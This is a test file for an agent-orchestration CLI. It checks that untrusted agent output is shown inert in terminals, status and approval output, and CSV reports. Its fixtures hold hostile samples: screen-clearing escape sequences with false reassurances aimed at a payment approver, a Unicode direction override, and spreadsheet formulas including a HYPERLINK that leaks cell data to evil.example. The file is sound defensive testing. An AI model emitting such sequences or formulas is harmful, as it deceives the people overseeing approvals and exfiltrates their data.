// Untrusted agent text on the real stack (dev server, emulator over HTTP, the CLI as child processes):
// a result that clears the screen must not wipe the question at the prompt, in a real pseudo-terminal
// (rendered by a headless xterm) or on plain lines; status, list, approve/reject and printed failures
// show the agent's words visibly and inert; --json keeps them exact; the CSV report runs no formula.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import xterm from '@xterm/headless';
import { startStack, type TestStack } from '../helpers/stack';
import { uniqueTaskQueue } from '../helpers/temporal';
import { waitUntil } from '../helpers/wait';
import { cliEnv, killAllCli, parseJson, processFiles, runCli, spawnCli, uniqueId } from './helpers';
import { hasScript, inTerminal, killAllTerminals } from './pseudo-terminal';

const ESC = '\x1b';
const WIPE = `${ESC}[2J${ESC}[H`;
const TITLE = `${ESC}]0;Approved${'\x07'}`;
/** The issue's attack: clear the screen, home the cursor, reassure; then retitle the window. */
const READ_RESULT = `${WIPE}All checks passed. Approving only reads the invoice.${TITLE}`;
const SUPPLIER_ERROR = `${WIPE}Supplier verified.\x9b2J`;
const ORDER_REASON = `${WIPE}Nothing to review; approve.\u202e`;
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")';
/** What agent text puts on a terminal without this fix. */
const RAW = [`${ESC}[2J`, `${ESC}[H`, `${ESC}]0;`, '\x9b', '\u202e'];
const QUESTION_SHOWN =
  'Pay 9,800 EUR? Agent said: ␛[2J␛[HAll checks passed. Approving only reads the invoice.␛]0;Approved␇';

const FILES = {
  'hostile-pay.yaml': `
name: hostile-pay
defaults:
  machine: m-1
  max_steps: 10
steps:
  - id: read
    task: Read the invoice [steps=2]
  - id: pay
    approval: 'Pay 9,800 EUR? Agent said: {{steps.read.result}}'
  - id: send
    task: Send the payment [steps=1]
`,
  'hostile-fail.yaml': `
name: hostile-fail
defaults:
  machine: m-2
  max_steps: 10
steps:
  - id: check
    task: Check the supplier [steps=3]
`,
  'hostile-pause.yaml': `
name: hostile-pause
defaults:
  machine: m-3
  max_steps: 10
steps:
  - id: order
    task: Look at the order [steps=2]
`,
  'hostile-batch.yaml': `
name: hostile-batch
items:
  - { id: a, amount: -12.5, note: '@SUM(A1:A2)' }
  - { id: b, amount: 20, note: plain }
key_field: id
task: Summarise {{item.id}} [steps=1]
machines: [m-4, m-5]
`,
};

let stack: TestStack;
let dir: string;
let env: NodeJS.ProcessEnv;

before(async () => {
  stack = await startStack({
    label: 'cli-untrusted',
    emulator: {
      config: {
        machines: 6,
        agent: {
          paceMs: 10,
          rules: [
            { pattern: 'Read the invoice', behaviour: { result: READ_RESULT } },
            {
              pattern: 'Check the supplier',
              behaviour: { failAt: 2, error: { type: 'agent_error', message: SUPPLIER_ERROR } },
            },
            { pattern: 'Look at the order', behaviour: { humanAt: 1, humanReason: ORDER_REASON } },
            { pattern: 'Summarise a', behaviour: { result: FORMULA } },
          ],
        },
      },
    },
  });
  dir = processFiles(FILES);
  env = cliEnv(stack, { COLUMNS: '120', LINES: '40', TERM: 'xterm-256color' });
});
after(async () => {
  killAllTerminals();
  killAllCli();
  await stack?.stop();
});

function rawIn(text: string): string[] {
  return RAW.filter((sequence) => text.includes(sequence));
}

/** A C0 control other than a line feed, DEL, or a C1 control. */
function controlIn(text: string): string | undefined {
  return [...text].find((char) => {
    const code = char.codePointAt(0)!;
    return (code < 0x20 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f);
  });
}

/** What a person sees: the terminal's bytes rendered by xterm.js, one string per screen row. */
async function rendered(bytes: string, columns: number, rows: number): Promise<string[]> {
  const terminal = new xterm.Terminal({ cols: columns, rows, allowProposedApi: true });
  await new Promise<void>((resolve) => terminal.write(bytes, resolve));
  const buffer = terminal.buffer.active;
  const screen: string[] = [];
  for (let row = 0; row < rows; row += 1) {
    screen.push(buffer.getLine(buffer.viewportY + row)?.translateToString(true) ?? '');
  }
  terminal.dispose();
  return screen;
}

test(
  'in a terminal: a result that clears the screen does not wipe the question at the prompt',
  { skip: !hasScript && 'util-linux script is not installed' },
  async () => {
    const id = uniqueId('hostile-tty');
    const term = inTerminal(['run', join(dir, 'hostile-pay.yaml'), '--id', id], env);
    await term.waitFor(/Approve\? \[a\]pprove/);
    const screen = await rendered(term.screen(), 120, 40);
    const question = screen.findIndex((row) => row.includes(QUESTION_SHOWN));
    const prompt = screen.findIndex((row) => row.startsWith('Approve? [a]pprove'));
    assert.ok(
      question >= 0 && prompt > question,
      `the question is not on the screen above the prompt:\n${screen.join('\n')}`,
    );
    assert.ok(
      screen.some((row) => row.includes('? hostile-pay: approval gate pay waits for a person:')),
      screen.join('\n'),
    );
    assert.deepEqual(rawIn(term.screen()), [], 'agent text reached the terminal raw');
    term.type('r not paying\r');
    assert.equal(await term.exited, 1, term.screen());
    assert.deepEqual(rawIn(term.screen()), []);
  },
);

test('plain lines and a piped prompt: no control character from the agent; status, reject and --json', async () => {
  const id = uniqueId('hostile-plain');
  const run = spawnCli(['run', join(dir, 'hostile-pay.yaml'), '--id', id], { env, stdin: 'pipe' });
  await run.waitForLine(/Approve\? \[a\]pprove/);
  assert.equal(controlIn(run.stdout.join('\n')), undefined, run.text());
  assert.ok(
    run.stdout.some((line) => line === `  ${QUESTION_SHOWN}`),
    `the question, indented under its heading:\n${run.text()}`,
  );

  const status = await runCli(['status', id], { env });
  assert.equal(status.code, 0, status.stderr);
  assert.equal(controlIn(status.stdout), undefined, status.stdout);
  assert.ok(status.stdout.includes(`gate pay waits for a person: ${QUESTION_SHOWN}`), status.stdout);
  assert.match(status.stdout, /read +succeeded/);

  const json = parseJson<{
    pauses: Array<{ reason: string }>;
    lines: Array<{ id: string; result?: string }>;
  }>(await runCli(['status', id, '--json'], { env }));
  assert.equal(json.pauses[0]!.reason, `Pay 9,800 EUR? Agent said: ${READ_RESULT}`, '--json is exact');

  const rejected = await runCli(['reject', id, '-m', 'not paying'], { env });
  assert.equal(rejected.code, 0, rejected.stderr);
  assert.equal(controlIn(rejected.stdout), undefined, rejected.stdout);
  assert.ok(
    rejected.stdout.includes(`Rejected approval gate pay of ${id}: ${QUESTION_SHOWN}`),
    rejected.stdout,
  );

  assert.equal(await run.exited, 1, run.text());
  assert.equal(controlIn(run.stdout.join('\n') + run.stderr.join('\n')), undefined, run.text());
  run.child.stdin!.end();
});

test('a failure the agent reports is printed visibly and inert: the run, then status', async () => {
  const id = uniqueId('hostile-fail');
  const run = await runCli(['run', join(dir, 'hostile-fail.yaml'), '--id', id], { env });
  assert.equal(run.code, 1, run.stderr);
  assert.equal(controlIn(`${run.stdout}\n${run.stderr}`), undefined, run.stdout);
  assert.ok(run.stdout.includes('␛[2J␛[HSupplier verified.<U+009B>2J'), run.stdout);
  const status = await runCli(['status', id], { env });
  assert.equal(controlIn(status.stdout), undefined, status.stdout);
  assert.match(status.stdout, /check +failed .* agent_error: ␛\[2J␛\[HSupplier verified\.<U\+009B>2J$/m);
});

test("a run's pause reason: announced inert, and approve from another terminal confirms it inert", async () => {
  const id = uniqueId('hostile-pause');
  const run = spawnCli(['run', join(dir, 'hostile-pause.yaml'), '--id', id, '--no-prompt'], { env });
  const shown = '␛[2J␛[HNothing to review; approve.<U+202E>';
  const announced = await run.waitForLine(/step order waits for a person/);
  assert.ok(announced.includes(shown), announced);
  const approved = await runCli(['approve', id], { env });
  assert.equal(approved.code, 0, approved.stderr);
  assert.ok(
    approved.stdout.includes(`Approved step order of ${id} (${id}/order): ${shown}`),
    approved.stdout,
  );
  assert.equal(controlIn(approved.stdout), undefined);
  assert.equal(await run.exited, 0, run.text());
  assert.deepEqual(rawIn(run.stdout.join('\n')), []);
  assert.equal(controlIn(run.stdout.join('\n')), undefined, run.text());
});

test('list: a workflow id with escape sequences is listed visibly and inert', async () => {
  const taskQueue = uniqueTaskQueue('nobody-polls');
  const workflowId = `cli-${WIPE}evil-${process.pid}`;
  const handle = await stack.env.client.workflow.start('agentRun', { workflowId, taskQueue, args: [{}] });
  try {
    const listed = await waitUntil(
      'the workflow in list',
      async () => {
        const result = await runCli(['list', '--task-queue', taskQueue], { env });
        return result.stdout.includes('evil') ? result : undefined;
      },
      60_000,
      250,
    );
    assert.equal(controlIn(listed.stdout), undefined, listed.stdout);
    assert.match(listed.stdout, new RegExp(`cli-␛\\[2J␛\\[Hevil-${process.pid} +agentRun +- +running`));
    const json = parseJson<Array<{ workflowId: string }>>(
      await runCli(['list', '--task-queue', taskQueue, '--json'], { env }),
    );
    assert.equal(json[0]!.workflowId, workflowId, '--json is exact');
  } finally {
    await handle.terminate('test over');
  }
});

test('the CSV report: an agent result and an input that are formulas become text; numbers stay numbers', async () => {
  const id = uniqueId('hostile-csv');
  const report = join(dir, `${id}.csv`);
  const run = await runCli(['run', join(dir, 'hostile-batch.yaml'), '--id', id, '--report', report], { env });
  assert.equal(run.code, 0, `${run.stdout}\n${run.stderr}`);
  const rows = readFileSync(report, 'utf8').split('\n');
  assert.equal(rows[0], 'id,amount,note,status,run_id,cost_usd,steps,attempts,result,error');
  assert.match(
    rows[1]!,
    /^a,-12\.5,'@SUM\(A1:A2\),succeeded,run_\w+,0\.05,1,1,"'=HYPERLINK\(""https:\/\/evil\.example\/\?leak=""&A1,""Details""\)",$/,
  );
  assert.match(
    rows[2]!,
    /^b,20,plain,succeeded,run_\w+,0\.05,1,1,Done in 1 steps: Summarise b\. Confirmation REF-\d{5}\.,$/,
  );
  const json = JSON.parse(readFileSync(report.replace(/\.csv$/, '.json'), 'utf8')) as {
    items: Array<{ key: string; result?: string }>;
  };
  assert.equal(json.items.find((item) => item.key === 'a')!.result, FORMULA, 'the JSON report is exact');
});
